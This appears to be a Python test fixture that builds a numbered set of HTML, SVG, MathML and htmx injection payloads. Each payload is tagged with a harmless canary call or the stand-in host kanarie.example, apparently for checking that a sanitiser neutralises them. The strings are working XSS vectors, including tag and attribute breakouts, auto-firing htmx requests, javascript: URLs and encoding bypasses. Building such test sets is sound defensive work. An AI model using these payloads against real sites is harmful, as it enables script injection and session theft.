"""Texts that would run, send or fetch something if a browser took them for more than text.

Each carries its number: a script calls `kanarie(number)`, a request goes to `/kanarie/number`, or to the host
kanarie.example, which leads to a port that counts who calls. Every element and every attribute that one of them adds
brings `data-kanarie` along, so that it is found even when it does nothing by itself.
"""

HOST = "kanarie.example"
# § is the mark, ¤ a call, ¶ an address of ours, € one elsewhere.
_MARKED = (
    # scripts
    "<script §>¤</script>",
    "<script § src=//€></script>",
    "<script § type=module src=//€></script>",
    "<img § src=x onerror=¤>",
    "<img § src=//€>",
    "<body § onload=¤>",
    "<details § open ontoggle=¤><summary>x</summary></details>",
    "<input § autofocus onfocus=¤>",
    "<video § autoplay src=//€ onerror=¤></video>",
    "<object § data=//€></object><embed § src=//€>",
    '<iframe § srcdoc="<script>parent.¤</script>"></iframe>',
    "<iframe § src=javascript:parent.¤></iframe>",
    # other languages of the browser
    "<svg § onload=¤></svg>",
    "<svg §><script>¤</script></svg>",
    "<svg §><animate onbegin=¤ attributeName=x dur=1s></svg>",
    '<svg §><use href="//€#a"/></svg>',
    "<svg §><foreignObject><img src=x onerror=¤></foreignObject></svg>",
    "<math §><mtext><mglyph><style><img src=x onerror=¤></style></mglyph></mtext></math>",
    '<math § href="javascript:¤">x</math>',
    # htmx
    "<div § hx-get=¶ hx-trigger=load></div>",
    "<div § hx-post=¶ hx-trigger=load></div>",
    "<div § data-hx-get=¶ data-hx-trigger=load></div>",
    "<div § data-hx-post=¶ data-hx-trigger=load></div>",
    "<div § hx-put=¶ hx-trigger=revealed>x</div>",
    '<div § hx-delete=¶ hx-trigger="every 20ms"></div>',
    "<div § hx-action=¶ hx-method=post hx-trigger=load></div>",
    "<div § hx-get=//€ hx-trigger=load></div>",
    "<div § hx-on:htmx:after:init=¤></div>",
    '<div § hx-get=¶ hx-trigger="load[¤]"></div>',
    '<div § hx-post=¶ hx-vals="js:{a:¤}" hx-trigger=load></div>',
    "<hx-partial § hx-target=body><img src=x onerror=¤></hx-partial>",
    "<main § id=main hx-swap-oob=true><img src=x onerror=¤></main>",
    """<meta § name=htmx-config content='{"mode":"no-cors"}'>""",
    # out of the wrapper, the field, the title, the comment
    "</p></div></main><div § hx-post=¶ hx-trigger=load></div>",
    "</span></strong></a></li></ul></dd></dl><div § hx-post=¶ hx-trigger=load></div>",
    "</p></div></div><div § hx-ignore=false hx-post=¶ hx-trigger=load></div>",
    "</textarea><img § src=x onerror=¤>",
    "</option></select></datalist><img § src=x onerror=¤>",
    "</title><script §>¤</script>",
    "</script><script §>¤</script>",
    "--><img § src=x onerror=¤><!--",
    "]]><img § src=x onerror=¤><![CDATA[",
    # out of an attribute
    '" § autofocus tabindex=0 onfocus=¤ x="',
    "' § autofocus tabindex=0 onfocus=¤ x='",
    '" § hx-post=¶ hx-trigger=load x="',
    '"><img § src=x onerror=¤>',
    "'><svg § onload=¤>",
    " x § onmouseover=¤ ",
    "` § onfocus=¤ `",
    # forms, links, the head
    "<form § action=//€><input name=a><button>Ja</button></form>",
    "<button § formaction=//€>Ja</button>",
    "<input § type=image src=//€ formaction=//€>",
    "<base § href=//€/>",
    '<meta § http-equiv=refresh content="0;url=//€">',
    '<meta § http-equiv=refresh content="0;url=javascript:¤">',
    '<style §>@import "//€";*{color:red}</style>',
    '<p § style="background:url(//€)">x</p>',
    "<link § rel=stylesheet href=//€>",
    "<link § rel=preconnect href=//€>",
    '<a § href="javascript:¤">her</a>',
    '<a § href="&#1;java&#9;script:¤">her</a>',
    "javascript:¤//",
    "data:text/html,<script>¤</script>",
    # templates, encodings, letters that are not seen
    "{{ 7*7 }}{{ config }}{% include 'base.html' %}${¤}#{¤}<%= ¤ %>",
    "&lt;img § src=x onerror=¤&gt;",
    "%3Cimg § src=x onerror=¤%3E",
    "+ADw-img § src=x onerror=¤+AD4-",
    "\uff1cimg § src=x onerror=¤\uff1e",
    "<\0script §>¤</\0script><img\0 § src=x onerror=¤>",
    "\u202e<img § src=x onerror=¤>\u2066\u200b\ufeff",
    "<im\u200bg § src=x><img\u00a0§ src=x onerror=¤>",
)


def _numbered(number: int, text: str) -> str:
    signs: dict[str, int | str | None] = {
        "§": "data-kanarie",
        "¤": f"kanarie({number})",
        "¶": f"/kanarie/{number}",
        "€": f"{HOST}/{number}",
    }
    return text.translate(str.maketrans(signs))


# By number from 1; no two are alike, so that each can be looked for.
PAYLOADS = {number: _numbered(number, text) for number, text in enumerate(_MARKED, 1)}
